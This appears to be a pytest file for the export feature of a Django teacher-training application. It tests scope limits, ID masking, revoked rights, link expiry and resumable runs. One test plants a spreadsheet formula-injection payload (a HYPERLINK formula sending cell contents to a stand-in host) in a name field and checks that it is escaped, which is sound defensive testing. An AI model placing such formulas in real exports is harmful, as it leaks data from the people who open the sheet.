"""An export holds the rows of its list, all of them in scope, and dies with the right to it."""

import csv
import io
from datetime import timedelta
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from python_calamine import CalamineWorkbook

from tests.support import jobs
from yanxiu.foundation import clock
from yanxiu.training.cast import outlines, people, places, seasons, signing_in
from yanxiu.training.cast.casting import Call
from yanxiu.training.journeys import exporting
from yanxiu.training.organisations import grants
from yanxiu.training.organisations.models import Officer
from yanxiu.training.people.models import Account, Person
from yanxiu.training.reports import exports, kinds, refusals, rolling
from yanxiu.training.reports.kinds import Batch, teachers
from yanxiu.training.reports.models import Export, ExportPart, Standing
from yanxiu.training.trail.models import Entry

WANTED = {"training": seasons.SEASON, "state": "registered", "sort": "school", "q": ""}


@pytest.fixture
def rolled(country: None) -> None:
    rolling.roll(at=clock.now())


def officer(phone: str) -> Person:
    return Account.objects.select_related("person").get(phone=phone).person


def ask(by: Person, *, kind: str = "teachers", path: str = "", **wanted: str) -> Export:
    held = grants.held(by.id, at=clock.now())
    asked: dict[str, Any] = WANTED | {"form": "csv"} | wanted
    at = clock.now()
    return exporting.ask(kind, path=path or held[0].path, wanted=asked, held=held, by=by, at=at)


def made(export: Export) -> bytes:
    jobs.run()
    export.refresh_from_db()
    assert export.finished_at, export.why_stopped
    return b"".join(exports.pieces(export))


def rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_a_sheet_holds_the_rows_of_its_list_and_no_other(rolled: None) -> None:
    county = officer(signing_in.COUNTY)
    export = ask(county)
    head, *lines = rows(made(export))
    own = Standing.objects.filter(
        training_id=seasons.outline(seasons.SEASON).training.id, path__startswith=export.path
    )
    assert [line[3] for line in lines] == list(
        own.order_by("path", "name", "person_id").values_list("name", flat=True)
    )
    assert head[5] == "证件号码"
    assert all("*" * 11 in line[5] for line in lines if line[5])
    assert (export.done, export.total, export.bound) == (len(lines), len(lines), len(lines))
    assert not ExportPart.objects.filter(export=export, is_file=False).exists()


def test_no_name_becomes_a_formula(rolled: None) -> None:
    row = Standing.objects.filter(
        training_id=seasons.outline(seasons.SEASON).training.id,
        path__startswith=grants.held(officer(signing_in.COUNTY).id, at=clock.now())[0].path,
    )[0]
    Standing.objects.filter(pk=row.pk).update(name='=HYPERLINK("http://e/?"&A1)')
    content = made(ask(officer(signing_in.COUNTY), form="xlsx"))
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    names = [line[3] for line in book.get_sheet_by_index(0).to_python()]
    assert '\'=HYPERLINK("http://e/?"&A1)' in names
    assert [
        line[3] for line in rows(made(ask(officer(signing_in.COUNTY)))) if "HYPER" in line[3]
    ] == ['\'=HYPERLINK("http://e/?"&A1)']


@pytest.mark.parametrize("kind", ["schools", "days"])
def test_schools_and_days_are_exported_as_well(rolled: None, kind: str) -> None:
    today = timezone.localdate(clock.now())
    since, until = (today - timedelta(days=20)).isoformat(), today.isoformat()
    dates = {"since": since, "until": until}
    export = ask(
        officer(signing_in.PROVINCE), kind=kind, training=seasons.DEMO, sort="share", **dates
    )
    head, *lines = rows(made(export))
    assert len(lines) > 2
    # One teacher of the country has earned all of the tasting, and her hours are on hold.
    people, hours = head.index("暂缓认定"), head.index("暂缓学时")
    required_s = seasons.outline(seasons.DEMO).rulebook.required_s
    held = {(int(line[people]), float(line[hours])) for line in lines}
    assert held == {(0, 0), (1, required_s / outlines.DEMO_HOUR_S)}


def test_nobody_exports_what_is_not_hers(rolled: None) -> None:
    with pytest.raises(refusals.OutOfScope):
        ask(officer(signing_in.COUNTY), path="000000/110000")


def test_a_row_from_elsewhere_stops_the_export(
    rolled: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    def leaking(export: Export, after: str, *, at: Any) -> Batch:
        batch = teachers.KIND.batch(export, after, at=at)
        return Batch([*batch.rows, ("000000/110000/110108/1101080001", ["谁"])], batch.after)

    shape = kinds.Kind(
        *("", teachers.KIND.many, leaking, teachers.KIND.bind, teachers.KIND.filename)
    )
    monkeypatch.setitem(kinds.KINDS, "teachers", shape)
    export = ask(officer(signing_in.COUNTY))
    jobs.run()
    export.refresh_from_db()
    assert (export.why_stopped, export.finished_at) == ("scope", None)
    assert not ExportPart.objects.filter(export=export).exists()


def test_a_withdrawn_right_stops_it_and_ends_its_link(rolled: None) -> None:
    county, above = officer(signing_in.COUNTY), officer(signing_in.CITY)
    running, finished = ask(county), ask(county, state="verified")
    exports.carry_on(finished.id, at=clock.now())
    grants.withdraw(
        Officer.objects.select_related("region", "school").get(person=county),
        by=above,
        at=clock.now(),
    )
    exports.carry_on(running.id, at=clock.now())
    running.refresh_from_db()
    assert (running.why_stopped, running.finished_at) == ("right", None)
    with pytest.raises(refusals.ExportRight):
        exports.fetch(finished.token, held=[], by=county, at=clock.now())
    with pytest.raises(refusals.ExportRight):
        list(exports.pieces(finished))


def test_a_right_taken_meanwhile_ends_the_run_at_its_next_step(
    rolled: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(teachers, "ROWS", 7)
    monkeypatch.setattr(exports, "LOOK_ROWS", 5)
    province = officer(signing_in.PROVINCE)
    gathering, binding = ask(province), ask(province)
    exports._gather(gathering, teachers.KIND)
    while not binding.is_gathered:
        exports._gather(binding, teachers.KIND)
    written = exports._rows(binding)
    next(written)
    grant = Officer.objects.select_related("region", "school").get(person=province)
    grants.withdraw(grant, by=officer(signing_in.NATION), at=clock.now())
    with pytest.raises(exports.Stopped):
        list(written)
    jobs.run()
    for export in (gathering, binding):
        export.refresh_from_db()
        assert (export.why_stopped, export.finished_at) == ("right", None)
        assert not ExportPart.objects.filter(export=export).exists()
    assert gathering.done == 7


def test_a_killed_run_goes_on_where_it_was(rolled: None, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(teachers, "ROWS", 7)
    nation = officer(signing_in.NATION)
    whole = made(ask(nation))
    export = ask(nation)
    kind = teachers.KIND
    exports._count(export, kind, clock.now())
    exports._gather(export, kind)
    exports._gather(export, kind)
    again = Export.objects.get(pk=export.pk)
    assert (again.done, again.is_gathered) == (14, False)
    exports.carry_on(export.id, at=clock.now())
    export.refresh_from_db()
    assert b"".join(exports.pieces(export)) == whole
    # Once more changes nothing.
    exports.carry_on(export.id, at=clock.now())
    assert b"".join(exports.pieces(export)) == whole


def test_a_link_is_its_owner_s_and_lasts_a_day(rolled: None) -> None:
    county, nation = officer(signing_in.COUNTY), officer(signing_in.NATION)
    export = ask(county)
    made(export)
    now = clock.now()

    def fetch(by: Person, at: Any) -> Export | None:
        return exports.fetch(export.token, held=grants.held(by.id, at=at), by=by, at=at)

    assert fetch(nation, now) is None
    assert fetch(county, now)
    with pytest.raises(refusals.ExportOver):
        fetch(county, now + timedelta(hours=25))
    assert exports.sweep(at=now + timedelta(hours=25))
    verbs = Entry.objects.filter(subject_id=str(export.id)).order_by("at", "id")
    assert list(verbs.values_list("verb", flat=True)) == [
        "export_asked",
        "export_made",
        "export_fetched",
    ]


def test_an_officer_can_stop_it_and_not_ask_for_too_many(rolled: None) -> None:
    county = officer(signing_in.COUNTY)
    first = ask(county)
    for _ in range(exports.AT_ONCE - 1):
        ask(county)
    with pytest.raises(refusals.TooManyExports):
        ask(county)
    exports.stop(first, by=county, at=clock.now())
    exports.carry_on(first.id, at=clock.now())
    first.refresh_from_db()
    assert (first.why_stopped, first.finished_at) == ("cancelled", None)


def test_a_batch_asks_as_often_for_many_rows_as_for_few(rolled: None) -> None:
    export = ask(officer(signing_in.SCHOOL))
    call = Call(clock.now())

    def queries() -> int:
        with CaptureQueriesContext(connection) as seen:
            teachers.KIND.batch(export, "", at=clock.now())
        return len(seen)

    few = queries()
    for _ in range(10):
        people.join(
            *(call.phone(), call.person()),
            places.of(places.HOME, places.PRIMARY),
            at=clock.now(),
        )
    assert queries() == few
